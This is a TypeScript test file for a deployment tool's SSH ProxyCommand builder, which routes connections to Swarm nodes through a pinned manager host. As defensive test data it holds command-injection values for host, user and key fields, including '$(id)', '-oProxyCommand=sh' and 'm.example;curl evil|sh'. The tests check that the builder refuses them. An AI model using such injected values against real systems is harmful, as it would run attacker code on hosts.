/**
 * A node reached through the Swarm manager: an explicit ProxyCommand that pins the manager's key exactly as the
 * node's (never -J, which passes none of our -o options to the jump connection). The ProxyCommand is shell text
 * after ssh's %-expansion, so it is run here through /bin/sh to see the argv the proxy really gets, and hostile
 * host, user and port values are refused before anything is written.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { proxyCommand, SshHost, type SshTarget } from '../../../src/host/ssh.js';
import { DeployError } from '../../../src/errors.js';
import { Redactor } from '../../../src/log/redact.js';

const manager: SshTarget = { host: 'manager.example', port: 2222, user: 'deploy' };
const node: SshTarget = { host: '10.0.0.12', port: 22, user: 'deploy' };

/** what ssh does with a ProxyCommand: expand %h, %p and %%, then `exec` the text with /bin/sh */
function runProxy(command: string, target: SshTarget): string[] {
  const expanded = command.replace(/%([hp%])/g, (_m, t: string) =>
    t === 'h' ? target.host : t === 'p' ? String(target.port) : '%',
  );
  const out = execFileSync('/bin/sh', ['-c', `exec ${expanded}`], {
    encoding: 'utf8',
    env: { PATH: '/usr/bin:/bin' },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  return out.split('\0').slice(0, -1);
}

/** a stand-in ssh that prints its argv, NUL-separated, in a directory whose name needs quoting */
function printer(): { dir: string; ssh: string } {
  const dir = mkdtempSync(join(tmpdir(), "ssh proxy it's 100% $(x) `y` "));
  const ssh = join(dir, 'ssh');
  writeFileSync(ssh, '#!/bin/sh\nprintf \'%s\\0\' "$@"\necho "proxy says no" >&2\n');
  chmodSync(ssh, 0o755);
  return { dir, ssh };
}

const pin = (dir: string) => ({
  knownHostsPath: join(dir, 'known hosts 50%'),
  keyPath: join(dir, "id 'x'"),
  connectTimeoutS: 10,
});

describe('proxyCommand', () => {
  it('pins the manager with our known_hosts and key, forwards to the node with -W, and never uses -J', () => {
    const { dir, ssh } = printer();
    const p = pin(dir);
    const errorLog = join(dir, 'proxy 5%.err');
    const argv = runProxy(proxyCommand({ ...p, ssh, via: manager, target: node, passphrase: false, errorLog }), node);
    assert.equal(argv.at(-1), 'manager.example');
    assert.equal(readFileSync(errorLog, 'utf8'), 'proxy says no\n', "the proxy's stderr is kept for the diagnosis");
    const opts = argv.flatMap((a, i) => (argv[i - 1] === '-o' ? [a] : []));
    for (const o of [
      'StrictHostKeyChecking=yes',
      `UserKnownHostsFile=${p.knownHostsPath}`,
      'GlobalKnownHostsFile=/dev/null',
      'IdentitiesOnly=yes',
      'IdentityAgent=none',
      'PasswordAuthentication=no',
      'ControlMaster=no',
      'ControlPath=none',
      'BatchMode=yes',
    ])
      assert.ok(opts.includes(o), `${o} in ${JSON.stringify(argv)}`);
    const after = (flag: string) => argv[argv.indexOf(flag) + 1];
    assert.deepEqual(argv.slice(0, 2), ['-F', '/dev/null']);
    assert.equal(after('-i'), p.keyPath, 'the key path arrives whole, quotes and % included');
    assert.equal(after('-W'), '10.0.0.12:22');
    assert.equal(after('-p'), '2222');
    assert.equal(after('-l'), 'deploy');
    assert.ok(!argv.includes('-J') && !opts.some((o) => /^ProxyJump/i.test(o)));
  });

  it('with a passphrase the proxy may ask the same askpass program once; an IPv6 node is bracketed', () => {
    const { dir, ssh } = printer();
    const v6: SshTarget = { host: 'fd00::12', port: 22, user: 'deploy' };
    const argv = runProxy(proxyCommand({ ...pin(dir), ssh, via: manager, target: v6, passphrase: true }), v6);
    assert.ok(argv.includes('BatchMode=no') && argv.includes('NumberOfPasswordPrompts=1'));
    assert.ok(!argv.includes('BatchMode=yes'));
    assert.equal(argv[argv.indexOf('-W') + 1], '[fd00::12]:22');
  });

  it('refuses a host, user or port that could change what the shell runs', () => {
    const { dir, ssh } = printer();
    const hostile: [Partial<SshTarget>, 'via' | 'target'][] = [
      [{ host: 'manager.example; touch /tmp/pwned' }, 'via'],
      [{ host: '$(id)' }, 'via'],
      [{ host: '-oProxyCommand=sh' }, 'via'],
      [{ host: 'm.example`id`' }, 'target'],
      [{ host: 'n%h' }, 'target'],
      [{ user: 'deploy x' }, 'via'],
      [{ user: '-l' }, 'via'],
      [{ port: 0 }, 'via'],
      [{ port: 22.5 }, 'target'],
    ];
    for (const [over, which] of hostile) {
      const via = which === 'via' ? { ...manager, ...over } : manager;
      const target = which === 'target' ? { ...node, ...over } : node;
      assert.throws(
        () => proxyCommand({ ...pin(dir), ssh, via, target, passphrase: false }),
        (e: unknown) => e instanceof DeployError && e.kind === 'config' && /is not a plain host name/.test(e.message),
        JSON.stringify(over),
      );
    }
    assert.throws(
      () =>
        proxyCommand({
          ...pin(dir),
          keyPath: '/k\nProxyCommand x',
          ssh,
          via: manager,
          target: node,
          passphrase: false,
        }),
      /control character/,
    );
  });
});

/** a stand-in ssh that records each call's argv (NUL-separated) and answers like a master, or fails like one */
function recorder(masterStderr?: string): { dir: string; ssh: string; calls: () => string[][] } {
  const dir = mkdtempSync(join(tmpdir(), 'ssh-via-'));
  const ssh = join(dir, 'ssh');
  // like a master with ControlPersist: the proxy's complaint lands only in its error log, ssh's own is generic
  const fail = masterStderr
    ? `printf '%s\\n' ${JSON.stringify(masterStderr)} >> "$(dirname "$cp")/proxy.err"; ` +
      `echo 'kex_exchange_identification: Connection closed by remote host' >&2; exit 255`
    : 'exit 0';
  writeFileSync(
    ssh,
    `#!/bin/sh
printf '%s\\0' "$@" '@end@' >> "${dir}/calls"
for a; do case $a in ControlPath=*) cp=\${a#ControlPath=};; esac; done
case " $* " in *" -M "*) ${fail};; esac
exit 0
`,
  );
  chmodSync(ssh, 0o755);
  writeFileSync(join(dir, 'id'), 'not a key\n', { mode: 0o600 });
  writeFileSync(join(dir, 'known_hosts'), '10.0.0.12 ssh-ed25519 AAAA\n[manager.example]:2222 ssh-ed25519 BBBB\n');
  const calls = () =>
    existsSync(join(dir, 'calls'))
      ? readFileSync(join(dir, 'calls'), 'utf8')
          .split('@end@\0')
          .slice(0, -1)
          .map((l) => l.split('\0').slice(0, -1))
      : [];
  return { dir, ssh, calls };
}

describe('SshHost through the manager', () => {
  const host = (r: ReturnType<typeof recorder>, via: SshTarget) =>
    SshHost.prepare({
      target: node,
      via,
      credentials: { privateKeyPath: join(r.dir, 'id'), knownHostsPath: join(r.dir, 'known_hosts') },
      redactor: new Redactor(),
      sshBinary: r.ssh,
      workDir: mkdtempSync(join(r.dir, 'work-')),
      attempts: 1,
    });

  it('every connection to the node carries the ProxyCommand; the name says the way', async () => {
    const r = recorder();
    const h = host(r, manager);
    assert.equal(h.name, 'deploy@10.0.0.12:22 via deploy@manager.example:2222');
    await h.connect();
    await h.run({ argv: ['true'] });
    await h.close();
    const [master, ...rest] = r.calls().filter((c) => c.includes('10.0.0.12'));
    assert.ok(master?.includes('-M'));
    const proxy = (c: string[]) => c.filter((a) => a.startsWith('ProxyCommand='));
    assert.equal(proxy(master!).length, 1);
    assert.match(proxy(master!)[0]!, / -W %h:%p manager\.example 2>>\S+\/proxy\.err$/);
    assert.match(proxy(master!)[0]!, /StrictHostKeyChecking=yes .*UserKnownHostsFile=/);
    // a session that found no master would connect itself: it must go the same pinned way
    for (const c of rest) assert.deepEqual(proxy(c), proxy(master!));
    assert.ok(!r.calls().some((c) => c.includes('-J')));
  });

  it('a hostile manager value is refused before the key is written', () => {
    const r = recorder();
    const work = join(r.dir, 'untouched');
    mkdirSync(work);
    assert.throws(
      () =>
        SshHost.prepare({
          target: node,
          via: { ...manager, host: 'm.example;curl evil|sh' },
          credentials: { privateKey: 'KEY', knownHostsPath: join(r.dir, 'known_hosts') },
          redactor: new Redactor(),
          sshBinary: r.ssh,
          workDir: work,
        }),
      (e: unknown) => e instanceof DeployError && e.kind === 'config' && /the manager's SSH host/.test(e.message),
    );
    assert.deepEqual(readdirSync(work), []);
  });

  it('a manager that does not forward SSH is said once, without retries', async () => {
    const r = recorder('channel 0: open failed: administratively prohibited: open failed');
    const h = SshHost.prepare({
      target: node,
      via: manager,
      credentials: { privateKeyPath: join(r.dir, 'id'), knownHostsPath: join(r.dir, 'known_hosts') },
      redactor: new Redactor(),
      sshBinary: r.ssh,
      workDir: mkdtempSync(join(r.dir, 'work-')),
      attempts: 3,
      sleep: async () => undefined,
    });
    await assert.rejects(h.connect(), (e: unknown) => {
      assert.ok(e instanceof DeployError);
      assert.equal(e.kind, 'connection');
      assert.match(e.message, /^deploy@manager\.example:2222 does not forward SSH to 10\.0\.0\.12:22/);
      assert.match(e.remedy ?? '', /AllowTcpForwarding/);
      return true;
    });
    assert.equal(r.calls().filter((c) => c.includes('-M')).length, 1);
  });
});
